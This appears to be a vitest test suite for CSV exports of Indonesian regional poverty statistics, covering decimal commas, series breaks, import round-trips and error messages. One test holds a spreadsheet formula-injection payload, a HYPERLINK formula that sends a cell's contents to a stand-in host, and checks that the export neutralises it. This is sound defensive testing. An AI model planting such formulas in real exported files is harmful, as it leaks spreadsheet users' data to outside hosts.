import request from 'supertest';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { systemViewer } from '../accounts/viewer.js';
import { importFile } from '../imports/import.service.js';
import { signedIn } from '../test-support/accounts.js';
import { describeEachDatabase } from '../test-support/databases.js';
import { createTestApi } from '../test-support/graphql.js';

describeEachDatabase(
  'CSV exports',
  (use) => {
    let api: Awaited<ReturnType<typeof createTestApi>>;
    beforeAll(async () => {
      api = await createTestApi(use());
    });
    afterAll(() => api.stop());

    it('exports a comparison with Indonesian decimal commas for Excel', async () => {
      const res = await request(api.http)
        .get('/export/comparison.csv')
        .query({ indicator: 'poverty_rate_p0', parent: '75', decimal: 'comma' });
      expect(res.status).toBe(200);
      expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
      expect(res.headers['content-disposition']).toBe('attachment; filename="perbandingan-poverty_rate_p0-2025.csv"');
      const lines = res.text.split('\r\n');
      expect(lines[0]).toBe(
        '\uFEFFperingkat;kode_wilayah;periode;nilai;kuartil;nilai_sebelumnya;perubahan;nilai_induk;selisih_induk;nilai_nasional;selisih_nasional',
      );
      expect(lines[6]).toBe('6;75.02;2025;16,37;4;17,83;-1,46;13,24;3,13;8,47;7,9');
    });

    it('exports a series with its breaks', async () => {
      const res = await request(api.http).get('/export/series.csv').query({ indicator: 'poverty_rate_p0', region: '91' });
      expect(res.text.split('\r\n')).toContain(
        '91,poverty_rate_p0,2024-03,17.26,ya,Pemekaran Papua 2022: angka sampai 2023 mencakup wilayah Papua sebelum pemekaran.',
      );
    });

    it('exports observations that import again unchanged, with decimal commas too', async () => {
      // Sulawesi Tengah: 12 kabupaten and Kota Palu, 2019–2025.
      for (const decimal of ['point', 'comma']) {
        const res = await request(api.http)
          .get('/export/observations.csv')
          .query({ indicator: 'poverty_rate_p0', parent: '72', decimal });
        const report = await importFile(use(), {
          bytes: Buffer.from(res.text),
          fileName: `export-${decimal}.csv`,
          viewer: systemViewer('tester'),
          options: { decimalComma: decimal === 'comma' },
        });
        expect(report.errors).toEqual([]);
        expect(report.counts).toMatchObject({ records: 13 * 7, inserted: 0, updated: 0, unchanged: 13 * 7 });
      }
    });

    it('exports each value with its region name, publisher, publisher’s page and release date, and imports them back', async () => {
      const header = 'kode_wilayah,indikator,periode,nilai,sumber,url_sumber,penerbit,url_penerbit,tanggal_rilis';
      const row =
        '75.02,poverty_rate_p0,2011,18.75,Tabel uji,https://mirror.example/tabel,Badan Pusat Statistik,https://www.bps.go.id/id/statistics-table/uji,2024-07-01';
      const first = await importFile(use(), {
        bytes: Buffer.from(`${header}\n${row}\n`),
        fileName: 'penerbit.csv',
        viewer: systemViewer('tester'),
      });
      expect(first.errors).toEqual([]);
      const res = await request(api.http)
        .get('/export/observations.csv')
        .query({ indicator: 'poverty_rate_p0', region: '75.02', from: '2011', to: '2011' });
      const [head, line] = res.text.split('\r\n');
      expect(head).toBe(
        '\uFEFFkode_wilayah,nama_wilayah,indikator,periode,nilai,pembilang,penyebut,status,sumber,url_sumber,penerbit,url_penerbit,tanggal_rilis,catatan,data_per',
      );
      expect(line).toMatch(
        /^75\.02,Kabupaten Boalemo,poverty_rate_p0,2011,18\.75,,,UNVERIFIED,Tabel uji,https:\/\/mirror\.example\/tabel,Badan Pusat Statistik,https:\/\/www\.bps\.go\.id\/id\/statistics-table\/uji,2024-07-01,,\d{4}-/,
      );
      const again = await importFile(use(), {
        bytes: Buffer.from(res.text),
        fileName: 'lagi.csv',
        viewer: systemViewer('tester'),
      });
      expect(again.errors).toEqual([]);
      expect(again.counts).toMatchObject({ records: 1, unchanged: 1 });
    });

    it('neutralises text a spreadsheet would run, and such an export imports again unchanged', async () => {
      const title = '=HYPERLINK("http://x.example/?"&A1,"klik")';
      const file = [
        'kode_wilayah,indikator,periode,nilai,sumber,url_sumber,catatan',
        `75.01,poverty_rate_p0,2012,19.25,"${title.replaceAll('"', '""')}",https://www.bps.go.id/,-tidak ada`,
        '75.01,poverty_rate_p0,2013,-0,,,@rapat',
      ].join('\n');
      const first = await importFile(use(), {
        bytes: Buffer.from(file),
        fileName: 'formula.csv',
        viewer: systemViewer('tester'),
      });
      expect(first.errors).toEqual([]);
      // Not verified yet: an analyst exports them (a visitor would not see them).
      const analyst = await signedIn(use(), api.http, 'analis', [{ role: 'ANALYST', regionCode: 'ID' }]);
      for (const decimal of ['point', 'comma']) {
        const res = await request(api.http)
          .get('/export/observations.csv')
          .set('cookie', analyst)
          .query({ indicator: 'poverty_rate_p0', region: '75.01', from: '2012', to: '2013', decimal });
        const sep = decimal === 'comma' ? ';' : ',';
        const [, row2012, row2013] = res.text.split('\r\n');
        expect(row2012).toContain(
          // Source, its link, then publisher, publisher's page and release date (none given), then the note.
          `${sep}"'=HYPERLINK(""http://x.example/?""&A1,""klik"")"${sep}https://www.bps.go.id/${sep}${sep}${sep}${sep}"'-tidak ada"${sep}`,
        );
        expect(row2013).toContain(`${sep}0${sep}${sep}${sep}UNVERIFIED${sep}${sep}${sep}${sep}${sep}${sep}"'@rapat"${sep}`);
        const again = await importFile(use(), {
          bytes: Buffer.from(res.text),
          fileName: `formula-${decimal}.csv`,
          viewer: systemViewer('tester'),
          options: { decimalComma: decimal === 'comma' },
        });
        expect(again.errors).toEqual([]);
        expect(again.counts).toMatchObject({ records: 2, inserted: 0, updated: 0, unchanged: 2 });
      }
      const stored = await use().sql.query<{ title: string | null; note: string | null }>(
        `SELECT s.title, o.note FROM observation o LEFT JOIN source s ON s.id = o.source_id
         WHERE o.indicator_code = 'poverty_rate_p0' AND o.region_code = '75.01' AND o.year IN (2012, 2013) ORDER BY o.year`,
      );
      expect(stored).toEqual([
        { title, note: '-tidak ada' },
        { title: null, note: '@rapat' },
      ]);
    });

    it('answers a bad request in words, with 400, never an empty file or an internal error', async () => {
      const refused = async (path: string, query: Record<string, string>) => {
        const res = await request(api.http).get(`/export/${path}`).query(query);
        expect(res.status).toBe(400);
        return res.text;
      };
      expect(await refused('comparison.csv', { indicator: 'p0' })).toBe(
        'Unknown indicator “p0”. The catalogue is in the `indicators` query. Did you mean “poverty_rate_p0”?',
      );
      expect(await refused('comparison.csv', { indicator: 'poverty_rate_p0', parent: '75', level: 'KABUPATEN' })).toBe(
        'level=KABUPATEN is not one of NATIONAL, PROVINCE, REGENCY_CITY, DISTRICT, VILLAGE.',
      );
      expect(await refused('observations.csv', { status: 'checked' })).toBe(
        'status=checked is not one of UNVERIFIED, VERIFIED, DISPUTED, PUBLISHED, RETURNED, DRAFT.',
      );
      expect(await refused('observations.csv', { indicator: 'povrty' })).toMatch(/^Unknown indicator “povrty”/);
      expect(await refused('series.csv', { indicator: 'poverty_rate_p0', region: '7500' })).toMatch(/^Unknown region “7500”/);
      expect(await refused('series.csv', { indicator: 'poverty_rate_p0' })).toBe('region is missing, e.g. region=75,75.01.');
      expect(await refused('series.csv', { region: '75' })).toBe('indicator is missing, e.g. indicator=poverty_rate_p0.');
      expect(await refused('series.csv', { indicator: 'poverty_rate_p0', region: '75', frequency: 'yearly' })).toBe(
        'frequency=yearly is not one of AUTO, ANNUAL, SUBANNUAL.',
      );
      expect(await refused('series.csv', { indicator: 'poverty_rate_p0', region: '75', decimal: 'koman' })).toBe(
        'decimal=koman is not comma (koma) or point (titik).',
      );
      const unknown = await request(api.http).get('/export/nope.csv');
      expect(unknown.status).toBe(404);
      expect(unknown.text).toMatch(/^No export at \/export\/nope.csv: the exports are/);
    });

    it('exports only the periods asked for, and reads lower-case levels and statuses', async () => {
      const res = await request(api.http)
        .get('/export/series.csv')
        .query({ indicator: 'poverty_rate_p0', region: '75.02', from: '2023', to: '2024' });
      expect(
        res.text
          .split('\r\n')
          .slice(1, -1)
          .map((l) => l.split(',')[2]),
      ).toEqual(['2023', '2024']);
      const lower = await request(api.http)
        .get('/export/observations.csv')
        .query({ indicator: 'poverty_rate_p0', parent: '75', level: 'regency_city', status: 'published', from: '2025' });
      expect(lower.status).toBe(200);
      expect(lower.text.split('\r\n').length - 2).toBe(6);
    });
  },
  { demoData: true },
);
